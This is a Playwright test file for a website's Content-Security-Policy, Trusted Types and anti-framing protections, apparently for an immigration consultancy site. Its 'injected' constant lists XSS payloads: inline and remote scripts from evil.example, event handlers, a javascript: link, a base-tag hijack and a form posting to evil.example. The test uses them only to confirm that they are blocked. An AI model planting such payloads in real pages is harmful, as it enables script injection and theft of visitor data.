import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from '@playwright/test';
import { nightly, swept } from '../support/sweep';
import { clients, current, firstWords, next } from './carousel';
import { fill, form, formTakenOver, someone } from './enquiries';
import { destinations, post } from './routes';
import { documentsOf, expect, fullyHydrated, open, test } from './test';
import { unstyled, watchPolicy } from './violations';

const main = (page: Page) => page.getByRole('main');
const service = '/services/immigrate/express-entry';

for (const { path, status } of swept(destinations, (route) => route.path === post.path)) {
  test(`${path} hydrates and is styled under its policy, and navigating away works`, {
    tag: nightly,
  }, async ({ page, watch }) => {
    if (status !== 200) watch.allowFailure(path);
    const stopped = await watchPolicy(page);
    const answer = await open(page, path);
    expect(answer?.headers()['content-security-policy']).toMatch(
      /^default-src 'none'; script-src 'self' 'sha256-[^']+';/,
    );
    expect(await unstyled(page)).toEqual([]);
    const accept = page.getByRole('button', { name: 'I Accept' });
    if (await accept.isVisible()) await accept.click();
    // Navigate to a page with styles and rich text that this document does not have.
    const documents = documentsOf(page);
    const [link, heading] =
      path === '/privacy-policy' ? ['About', 'About'] : ['Privacy Policy', 'Privacy Policy'];
    await page.getByRole('contentinfo').getByRole('link', { name: link, exact: true }).click();
    await expect(page).toHaveTitle(new RegExp(`^${heading}`));
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await unstyled(page)).toEqual([]);
    expect(documents.count()).toBe(0);
    expect(await stopped()).toEqual([]);
  });
}

test('no policy violation occurs in use: menu, carousel, post, sharing, questions, form, dialog', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const stopped = await watchPolicy(page);
  await open(page, '/');
  const documents = documentsOf(page);
  const menu = page.getByRole('navigation', { name: 'Main' });

  await clients(page).scrollIntoViewIfNeeded();
  await expect(current(page).filter({ hasText: firstWords })).toBeVisible();
  await next(page).click();
  await expect(current(page).filter({ hasText: firstWords })).toBeHidden();

  await menu.getByRole('link', { name: 'Blog' }).click();
  await expect(page).toHaveURL('/blog/posts');
  await main(page).getByRole('link', { name: post.title }).first().click();
  await expect(main(page).getByRole('table')).toBeVisible();
  expect(await unstyled(page)).toEqual([]);
  await main(page).getByRole('button', { name: 'Share this post' }).click();
  await main(page).getByRole('button', { name: 'Copy link' }).click();
  await expect(page.getByText('Link copied to clipboard!')).toBeVisible();
  await page.keyboard.press('Escape');

  await menu.locator('summary').filter({ hasText: 'Services' }).click();
  await menu.getByRole('link', { name: 'Express Entry' }).first().click();
  await expect(page).toHaveURL(service);
  const question = main(page).locator('section details[name]').first();
  await question.locator('summary').click();
  await expect(question).toHaveAttribute('open');
  expect(await unstyled(page)).toEqual([]);

  await menu.getByRole('link', { name: 'Contact' }).click();
  await formTakenOver(page);
  await form(page).getByRole('button').focus();
  await page.keyboard.press('Enter');
  await expect(page.getByLabel('First name')).toHaveAttribute('aria-invalid', 'true');
  expect(await unstyled(page)).toEqual([]);
  await fill(page, someone());
  await form(page).getByRole('button').click();
  await expect(page.getByText('Thank you for contacting us!')).toBeVisible();

  await menu.getByRole('link', { name: 'Book a consultation' }).click();
  const dialog = page.getByRole('dialog', { name: 'Important Disclaimer' });
  await expect(dialog).toBeVisible();
  await dialog.getByRole('button', { name: 'I Accept' }).click();
  await expect(dialog).toBeHidden();
  expect(await unstyled(page)).toEqual([]);

  await page.setViewportSize({ width: 360, height: 800 });
  await page.locator('#menu-open').click();
  await expect(menu.getByRole('link', { name: 'About' })).toBeVisible();
  expect(documents.count()).toBe(0);
  expect(await stopped()).toEqual([]);
});

/** Injected content that passes every other check, with the effect it would have. */
const injected = `
  <script>document.documentElement.dataset.ran = 'script'</script>
  <script src="https://evil.example/x.js"></script>
  <script src="data:text/javascript,document.documentElement.dataset.ran='data'"></script>
  <img src="data:," onerror="document.documentElement.dataset.ran = 'handler'">
  <a id="planted-link" href="javascript:document.documentElement.dataset.ran='link'">x</a>
  <style>#root { outline: 7px solid red !important }</style>
  <link rel="stylesheet" href="https://evil.example/x.css">
  <p id="planted" style="outline: 7px solid red">x</p>
  <base href="https://evil.example/">
  <iframe src="/about"></iframe>
  <object data="/about"></object>
  <form id="planted-form" action="https://evil.example/take"><input name="a" value="b"></form>`;

/** A page whose violations are expected: our `test` requires a quiet console and network. */
const tried = async (browser: Browser, baseURL: string | undefined): Promise<Page> =>
  (await browser.newContext(baseURL ? { baseURL } : {})).newPage();

test('injected content cannot run, style the page, frame it, or send anything elsewhere', async ({
  browser,
  baseURL,
}) => {
  const page = await tried(browser, baseURL);
  await page.route(`**${service}`, async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    await route.fulfill({ response, body: html.replace('<div id="root">', `${injected}$&`) });
  });
  // Answer requests to the other host: without an answer, a request that the policy allowed would go unnoticed.
  await page.route('https://evil.example/**', (route) =>
    route.request().resourceType() === 'stylesheet'
      ? route.fulfill({ contentType: 'text/css', body: '#root{outline:7px solid red}' })
      : route.fulfill({
          contentType: 'text/javascript',
          body: "document.documentElement.dataset.ran = 'elsewhere'",
        }),
  );
  const arrived: string[] = [];
  page.on('response', (response) => arrived.push(response.url()));
  const stopped = await watchPolicy(page);
  await page.goto(service);
  await fullyHydrated(page);
  await page.locator('#planted-link').dispatchEvent('click');
  await page.evaluate(() => (document.getElementById('planted-form') as HTMLFormElement).submit());
  await expect
    .poll(async () => [...new Set((await stopped()).map((what) => what.split(' ')[0]))].sort())
    .toEqual([
      'base-uri',
      'form-action',
      'frame-src',
      'img-src',
      'object-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
    ]);
  const done = await page.evaluate(() => ({
    ran: document.documentElement.dataset['ran'],
    outlines: ['root', 'planted'].map((id) => {
      const element = document.getElementById(id);
      return element && getComputedStyle(element).outlineStyle;
    }),
    base: document.baseURI,
  }));
  expect(done).toEqual({ ran: undefined, outlines: ['none', 'none'], base: page.url() });
  expect(new Set(arrived.map((url) => new URL(url).origin))).toEqual(new Set([baseURL]));
  await page.context().close();
});

test('text becomes markup or script only through the one policy for rich text', async ({
  browser,
  baseURL,
}) => {
  const page = await tried(browser, baseURL);
  await page.goto('/');
  await fullyHydrated(page);
  const outcomes = await page.evaluate(() => {
    const trial = (act: () => unknown) => {
      try {
        act();
        return 'done';
      } catch (error) {
        return (error as Error).name;
      }
    };
    const types = (
      window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
      }
    ).trustedTypes;
    return {
      'markup in an element': trial(() => {
        document.createElement('p').innerHTML = '<b>b</b>';
      }),
      'markup in the document': trial(() => document.write('<b>b</b>')),
      'the address of a script': trial(() => {
        document.createElement('script').src = '/_app/x.js';
      }),
      'another policy': trial(() => types.createPolicy('mine', {})),
      'the policy once more': trial(() => types.createPolicy('rich-text', {})),
      'text in an element': trial(() => {
        document.createElement('p').textContent = '<b>b</b>';
      }),
    };
  });
  expect(outcomes).toEqual({
    'markup in an element': 'TypeError',
    'markup in the document': 'TypeError',
    'the address of a script': 'TypeError',
    'another policy': 'TypeError',
    'the policy once more': 'TypeError',
    'text in an element': 'done',
  });
  await page.context().close();
});

test('no other site can show a page of this one in a frame', async ({ browser, baseURL }) => {
  // Use a real server. Chromium treats answers that a test provides as coming from outside this machine. It would block access
  // to local pages whatever the site's headers say.
  const elsewhere = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<iframe src="${baseURL}/about" onload="document.title = 'tried'"></iframe>`);
  });
  elsewhere.listen(0, '127.0.0.1');
  await once(elsewhere, 'listening');
  const { port } = elsewhere.address() as AddressInfo;
  const page = await tried(browser, undefined);
  try {
    const refusals: (string | undefined)[] = [];
    page.on('requestfailed', (request) => {
      // Chromium also reports the refusal to the site, and hides the answer from the other page.
      if (request.isNavigationRequest()) refusals.push(request.failure()?.errorText);
    });
    await page.goto(`http://127.0.0.1:${port}/`);
    await expect(page).toHaveTitle('tried');
    await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
    await expect
      .poll(() => refusals)
      .toEqual([expect.stringMatching(/^(?:csp|net::ERR_BLOCKED_BY_RESPONSE)$/)]);
  } finally {
    await page.context().close();
    elsewhere.close();
    elsewhere.closeAllConnections();
  }
});
